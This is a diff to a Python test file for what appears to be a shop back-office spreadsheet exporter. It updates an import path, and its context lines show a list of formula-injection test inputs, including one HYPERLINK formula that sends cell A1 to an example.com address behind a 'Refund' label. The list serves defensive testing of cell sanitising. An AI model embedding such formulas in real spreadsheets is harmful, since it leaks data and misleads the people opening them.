@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from shop.sheets import csv_answer, plain_cell, safe_cell, xlsx_answer
+from shop.backoffice.spreadsheets import csv_answer, plain_cell, safe_cell, xlsx_answer
 
 NASTY = [
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("https://example.com?"&A1,"Refund")',
